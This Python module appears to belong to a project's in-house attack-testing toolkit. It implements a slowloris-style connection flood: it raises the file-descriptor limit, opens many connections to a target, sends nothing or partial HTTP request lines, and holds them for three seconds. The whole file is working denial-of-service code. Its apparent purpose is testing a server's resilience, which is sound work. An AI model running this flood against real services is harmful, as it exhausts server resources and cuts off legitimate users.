"""Connections that say nothing, or say it very slowly, as many as can be had."""

import asyncio
import resource
from contextlib import suppress

from tools.attacks.target import Streams, Target

MANY = 1200
HELD = 3.0  # seconds for which they are held


async def attack(target: Target, size: int) -> None:
    many = MANY * size
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, many + 500), hard))
    held: list[Streams] = []
    try:
        for number in range(many):
            with suppress(OSError):
                held.append(await target.connect())
                said = (b"", b"GET / HT", b"POST /api/mine HTTP/1.1\r\n", b"\x00")[number % 4]
                held[-1][1].write(said)
        await asyncio.sleep(HELD)
    finally:
        for _, writer in held:
            writer.transport.abort()
